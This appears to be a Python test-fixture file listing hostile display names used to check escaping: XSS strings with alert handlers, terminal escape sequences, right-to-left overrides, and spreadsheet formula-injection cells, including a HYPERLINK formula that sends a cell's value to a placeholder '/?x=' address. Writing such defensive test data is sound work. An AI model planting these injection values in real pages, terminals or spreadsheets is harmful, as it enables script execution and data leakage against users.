"""Hostile names of our own, for the tests that always run: markup, escapes, control characters,
formula-looking cells, right-to-left text and a very long name.

The full corpus stays in the shared data (`data/hostile/names.json`, read in place); the `hostile`
fixture of conftest runs a test on these names and again on that corpus when it is present. The groups
and the positions tests pick from are the same in both.
"""

from __future__ import annotations

import json
from pathlib import Path

OWN: dict[str, list[str]] = {
    "html": [
        "<a href=\"javascript:alert('H1')\">H1 script link</a>",
        "<img src=nope onerror=alert('H2')>H2 image",
        '<a href="https://127.0.0.1:9/steal">H3 Order signed - open</a>',
        "<i>H4 italic</i><br>next line",
        "</script><script>alert('H5')</script>H5",
        "<svg onload=alert('H6')>H6 vector",
        '<span style="font-size:50px;fill:blue">H7 big span</span>',
        "Q&amp;A &lt;H8&gt; \"quoted\" 'single'",
        "$\\textcolor{red}{H9 tex}$ and $x$",
    ],
    "terminal_markup": [
        "[italic green]loud[/]",
        "[link=https://127.0.0.1:9/steal]Order signed[/link]",
        "[@click=app.quit]Press here[/]",
        "Stop 3 [/]",
        "Stop 3 [/",
        ":fire: \\[escaped",
    ],
    "terminal_control": [
        "E1 \x1b]0;RETITLED\x07 title",
        "E2 \x1b[2J\x1b[H wipe",
        "E3 \x1b[32mGREEN\x1b[0m colour",
        "Plain\rOVERWRITTEN",
        "E5 \x9b31m C1 and a lone \x1b and a bell \x07",
        "left\u202ethgir",
    ],
    "spreadsheet": [
        "=2+3",
        '=HYPERLINK("https://127.0.0.1:9/?x="&B2,"See details")',
        "+2+3",
        "-2+3",
        "@SUM(2,3)",
        "\t=2+3",
        " =2+3",
        "＝2+3",
        "-7",
        "Torque check",
    ],
    "unicode": [
        "Öffnungszeit Ä",
        "装配线 三",
        "🔧 Changeover",
        "خط ٣ توقف",
        "réglage à chaud",
        "y" * 300,
    ],
}


def flat(groups: dict[str, list[str]]) -> list[str]:
    """Every name of every group, in order (the corpus's `about` text is not a name)."""
    return [name for key, names in groups.items() if key != "about" for name in names]


def read_corpus(data: Path) -> dict[str, list[str]]:
    """The shared corpus, read in place from the shared `data/` folder."""
    corpus: dict[str, list[str]] = json.loads((data / "hostile" / "names.json").read_text(encoding="utf-8"))
    return {key: names for key, names in corpus.items() if key != "about"}
